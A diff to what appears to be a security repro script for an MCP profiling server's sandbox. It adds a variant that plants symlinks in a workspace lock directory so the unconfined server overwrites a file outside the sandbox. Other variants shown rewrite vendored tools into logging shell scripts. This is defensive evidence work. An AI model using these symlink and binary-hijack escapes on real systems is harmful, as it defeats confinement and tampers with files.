@@ -9,7 +9,9 @@ Python process started from that venv afterwards runs it at start-up, the sandbo
 (``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
 outside the workspace.
 
-Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path|nsysenv]
+Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path|nsysenv|cachehome]
+(cachehome: XDG_CACHE_HOME in the workspace; the command links kprof's locks/cpu.holder to an outside file,
+which the server's next device lock overwrites: _note_holder's write_text follows the link)
 (nsysenv: KPROF_NSYS names tools/nsys in the workspace; the command rewrites it, device_info runs it)
 (path: the workspace's venv activated, its bin/ first on the server's PATH: the command plants bin/nvidia-smi,
 mode 0755 at creation, which the server itself runs at the next job's preflight)
@@ -48,7 +50,18 @@ try:
     print("control: wrote outside directly (NOT confined?)")
 except OSError as e:
     print("control: outside write refused:", e)
-if {HOW!r} == "nsysenv":
+if {HOW!r} == "cachehome":
+    locks = os.path.join(ws, ".cache", "kprof-mcp", "locks")
+    os.makedirs(locks, exist_ok=True)
+    target = os.path.join(locks, "cpu.holder")
+    print("locks before:", sorted(os.listdir(locks)))
+    for name in ("cpu", "gpu-0"):
+        try:
+            os.unlink(os.path.join(locks, name + ".holder"))
+        except FileNotFoundError:
+            pass
+        os.symlink({str(OUTSIDE / "victim.txt")!r}, os.path.join(locks, name + ".holder"))
+elif {HOW!r} == "nsysenv":
     target = os.path.join(ws, "tools", "nsys")
     with open(target, "w") as f:  # rewritten in place: its mode (0755) stays
         f.write('#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi-or-nsys nsys $*" >> {PWNED}\\nexit 1\\n')
@@ -89,6 +102,8 @@ def setup() -> None:
     (WS / ".venv" / SITE / "_kp10_path.pth").write_text(f"{WS}\n{REPO / '.venv' / SITE}\n")
     (WS / "kp10" / "selfmod.py").write_text(ATTACK)
     (WS / "kp10" / "hello.py").write_text("print('hello')\n")
+    (WS / ".cache").mkdir()
+    (OUTSIDE / "victim.txt").write_text("outside victim\n")
     (WS / "tools").mkdir()
     fd = os.open(WS / "tools" / "nsys", os.O_WRONLY | os.O_CREAT, 0o755)
     os.write(fd, b"#!/bin/sh\necho 'NVIDIA Nsight Systems version 2025.3.1.90-1'\n")
@@ -111,11 +126,14 @@ async def main() -> str:
         HOW == "nsysenv"
     ):  # the operator's KPROF_NSYS names an Nsight Systems vendored in the project (tools/nsys)
         env["KPROF_NSYS"] = str(WS / "tools" / "nsys")
+    if HOW == "cachehome":  # the operator's XDG_CACHE_HOME in the project (kprof's lock dir beneath it)
+        env["XDG_CACHE_HOME"] = str(WS / ".cache")
+        del env["KPROF_LOCK_DIR"]
     if HOW == "path":  # the workspace's venv activated in the shell that started the server
         env["PATH"] = f"{WS / '.venv' / 'bin'}:{env['PATH']}"
     py = (
         REPO / ".venv" / "bin" / "python"
-        if HOW in ("pythonpath", "nsysenv")
+        if HOW in ("pythonpath", "nsysenv", "cachehome")
         else WS / ".venv" / "bin" / "python"
     )
     params = StdioServerParameters(
@@ -126,6 +144,14 @@ async def main() -> str:
     )
     async with Client(params) as c:
         for argv in (["python", "kp10/selfmod.py"], ["python", "kp10/hello.py"]):
+            if HOW == "cachehome" and argv[1] == "kp10/hello.py":  # a kernel job takes the device lock
+                for _ in range(2):
+                    r = await c.call_tool(
+                        "profile_kernel",
+                        {"kernel": "vector_add", "mode": "event", "params": {"n": 1024}, "wait_s": 50},
+                    )
+                    print("--- profile_kernel:", r.is_error, (r.structured_content or {}).get("status"))
+                continue
             if HOW == "nsysenv" and argv[1] == "kp10/hello.py":
                 r = await c.call_tool("device_info", {})
                 print(
@@ -141,6 +167,13 @@ async def main() -> str:
                 sc = r.structured_content or {}
             text = "\n".join(getattr(x, "text", "") for x in r.content or [])
             print(f"--- {argv}: error={r.is_error} status={sc.get('status')}\n{text[:1500]}", flush=True)
+    if HOW == "cachehome":
+        v = (OUTSIDE / "victim.txt").read_text()
+        return (
+            ""
+            if v == "outside victim\n"
+            else f"outside/victim.txt now: {v!r} (overwritten by the server through the link the command planted)"
+        )
     return PWNED.read_text() if PWNED.exists() else ""
 
 
@@ -151,12 +184,19 @@ if __name__ == "__main__":
         print("outside file written by:\n" + (got or "(nothing)"))
         # the supervisor's argv: -m POLICY.json -- ... (sys.argv[0] is still '-m' while site runs .pth files)
         unconfined = [
-            ln for ln in got.splitlines() if ("kprof-policies-" in ln and "'--'" in ln) or "nvidia-smi" in ln
+            ln
+            for ln in got.splitlines()
+            if ("kprof-policies-" in ln and "'--'" in ln)
+            or "nvidia-smi" in ln
+            or "overwritten by the server" in ln
         ]
         print(
             "RESULT selfws_" + HOW + ":",
-            "SUCCEEDED (the unconfined supervisor ran the command's code)" if unconfined else "BLOCKED",
+            "SUCCEEDED (an unconfined process of the server's wrote outside for the command)"
+            if unconfined
+            else "BLOCKED",
         )
     finally:
         time.sleep(1)
-        shutil.rmtree(BASE, ignore_errors=True)
+        if not os.environ.get("KP10_KEEP"):
+            shutil.rmtree(BASE, ignore_errors=True)
